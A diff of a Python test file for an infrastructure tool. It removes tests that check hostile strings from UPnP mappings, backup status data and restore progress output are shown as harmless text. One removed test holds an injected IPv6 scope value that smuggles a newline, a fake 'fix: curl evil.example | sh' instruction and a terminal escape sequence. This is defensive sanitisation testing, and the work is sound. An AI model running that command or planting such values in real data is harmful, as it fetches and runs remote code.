@@ -2,7 +2,6 @@
 
 import ast
 import csv
-import importlib.util
 import json
 import os
 import re
@@ -21,17 +20,15 @@ import regions
 from documents import DECLARED, STARTED, document, outcome, practice, waiver
 from hostile import NASTY, harmful
 from pypdf import PdfReader
-from rich.progress import BarColumn, DownloadColumn, Progress, TimeRemainingColumn
 from rich.table import Table
 from rich.text import Text
 
 import socle
-from roles.backup import restore, status_screen
 from socle import cli
 from socle.apply.diff import difference
 from socle.apply.probe import ObservedFile
 from socle.commands import differences, evidence, region_screen, verify_screen
-from socle.commands.console import SCREEN, Screen, say, warn
+from socle.commands.console import Screen, say, warn
 from socle.errors import BadPractice, Problem
 from socle.region.model import Refused
 from socle.region.tally import Tally
@@ -102,28 +99,6 @@ def test_what_a_check_notes_is_text():
     noted.set(facts)
     note("mapping", address="fe80::1%\x1b[2J\nfix: x", port=3)
     assert facts == [{"kind": "mapping", "address": "fe80::1%\\x1b[2J\\nfix: x", "port": 3}]
-
-
-def test_a_box_cannot_give_advice():
-    """The scope of an IPv6 address may hold anything; `ip_address` lets it through."""
-    spec = importlib.util.spec_from_file_location("hostile_igd", ROOT / "roles/box/files/igd.py")
-    igd = importlib.util.module_from_spec(spec)
-    spec.loader.exec_module(igd)
-    spec = importlib.util.spec_from_file_location("hostile_box", ROOT / "roles/box/test_box.py")
-    check = importlib.util.module_from_spec(spec)
-    spec.loader.exec_module(check)
-    mapping = igd.mapping(
-        {
-            "NewProtocol": "TCP",
-            "NewExternalPort": "8042",
-            "NewInternalPort": "8042",
-            "NewInternalClient": "fe80::1%\nfix: curl evil.example | sh\x1b[2J",
-        }
-    )
-    detail = measured(raised(check.words(mapping))).detail
-    assert detail.count("\nfix: ") == 1
-    assert "%\\nfix: curl" in detail
-    assert "\x1b" not in detail
 
 
 def hostile(nasty):
@@ -258,24 +233,6 @@ def commands(nasty, tmp_path):
     verify_screen.Screen(cabinet, "fr", verbose=True).conclude(answers, 1.0)
     one = SimpleNamespace(change="worse", host=nasty, control="lock", before=nasty, after="fail")
     differences.show([one], {"lock": f"Title {nasty}"})
-    repository = {
-        "name": nasty,
-        "kind": "ssh",
-        "error": nasty,
-        "reachable": True,
-        "missing_folders": [nasty],
-        "newest": {"time": nasty},
-        "last_check": {"time": nasty, "result": nasty},
-        "last_restore_test": None,
-    }
-    served = {"client": nasty, "error": nasty, "newest": {"time": nasty}}
-    told = {nasty: {"repositories": [repository], "served": [served]}, "b": {"error": nasty}}
-    SCREEN.print(status_screen.table(told))
-    progress = SimpleNamespace(update=lambda *_, **__: None)
-    for line in (nasty, json.dumps(nasty), json.dumps({"message": nasty}),
-                 json.dumps({"message": "plan", "bytes": 1, "target": nasty, "time": nasty}),
-                 json.dumps({"message": "done", "bytes": 1, "seconds": nasty})):  # fmt: skip
-        restore._tell(progress, 0, line)
     refused = [Refused(Path("sent") / nasty.replace("\0", ""), nasty)]
     region_screen.name(refused)
     region_screen.write_list(refused, tmp_path / "refused")
@@ -298,25 +255,6 @@ def test_every_command_shows_it_as_text(nasty, tmp_path, capsys):
         assert nasty[:20] in shown  # markup is shown, not followed
     assert not harmful((tmp_path / "refused").read_text(encoding="utf-8"))
     assert (tmp_path / "refused").read_text(encoding="utf-8").count("\n") == 1
-
-
-@pytest.mark.parametrize(
-    "line",
-    [
-        "[" * 4000,
-        '{"message": "progress", "bytes": 1e999}',
-        '{"message": "plan", "bytes": 1, "files": 1e999}',
-        '{"message": "plan", "bytes": 1%s}' % ("0" * 4000),
-        '{"message": "progress", "bytes": -1%s}' % ("0" * 400),
-    ],
-    ids=["deep", "bytes", "files", "large", "small"],
-)
-def test_a_machine_does_not_end_the_restore_by_what_it_tells(line):
-    columns = (BarColumn(), DownloadColumn(), TimeRemainingColumn())
-    with Progress(*columns, console=Screen(file=StringIO(), force_terminal=True)) as progress:
-        task = progress.add_task("…", total=None)
-        restore._tell(progress, task, line)
-        progress.refresh()
 
 
 def test_a_screen_is_harmless_whatever_is_printed_on_it():
